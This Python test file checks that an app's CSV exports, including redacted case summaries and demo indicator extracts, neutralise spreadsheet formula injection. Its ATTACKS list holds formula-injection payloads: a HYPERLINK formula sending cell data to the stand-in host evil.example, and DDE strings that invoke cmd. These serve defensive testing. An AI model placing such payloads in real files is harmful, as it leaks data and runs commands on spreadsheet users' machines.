"""Every CSV Casepath writes opens in a spreadsheet as data: no cell runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from app.documents.csv_safe import FORMULA_STARTS, csv_text, neutralise
from app.documents.redaction.redaction import RedactionOptions
from app.domain.attachments import AttachmentOwner
from app.domain.records import Indicator
from tests.factories import conversation, indicator, open_case

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not cell.lstrip("-").replace(".", "").isdigit()


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_would_run_gets_an_apostrophe(attack):
    assert neutralise(attack) == "'" + attack
    (row,) = csv.reader(io.StringIO(csv_text([["x", attack]]), newline=""))
    assert row == ["x", "'" + attack]


def test_ordinary_text_and_numbers_are_left_alone():
    for cell in ("Operations", "-3", "-0.5", "42", "2026-03-16", "a=b", "", "E-mail me"):
        assert neutralise(cell) == cell
    assert neutralise(None) == "" and neutralise(7) == "7"


def test_the_redacted_summary_csv_neutralises_free_text_and_department(services, tmp_path):
    case = open_case(services, name="Zoë Ångström")
    for attack in ATTACKS:
        services.cases.add(conversation(case, services.clock.today(), summary=attack))
    options = RedactionOptions(include=frozenset({"conversation_summaries"}))
    target = services.documents.export_redacted(case.id, tmp_path / "s.csv", options)
    rows = list(csv.reader(io.StringIO(target.read_text("utf-8"), newline="")))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if _runs_as_formula(c)]
    for attack in ATTACKS:
        assert "'" + attack.replace("\r", "\n") in cells or "'" + attack in cells, attack


def test_the_demo_indicator_extracts_are_neutralised_csv(services):
    import random

    from app.services.documents.attachment_service import enrich_demo

    case = open_case(services, name="Zoë Ångström")
    services.cases.add(
        indicator(case, services.clock.today() - timedelta(days=3), expected=-5.0, actual=-9.0)
    )
    for seed in range(8):  # the demo attaches an extract to about half the indicators
        enrich_demo(services, random.Random(seed))
    ind = services.cases.records(Indicator, case.id)[0]
    att = services.attachments
    extracts = [
        a for a in att.for_owner(AttachmentOwner.INDICATOR, ind.id) if a.filename.endswith(".csv")
    ]
    assert extracts
    for a in extracts:
        text = att.content(a.id).decode("utf-8")
        cells = [c for r in csv.reader(io.StringIO(text, newline="")) for c in r]
        assert cells[:3] == ["week", "expected", "actual"]
        assert not [c for c in cells if _runs_as_formula(c)]
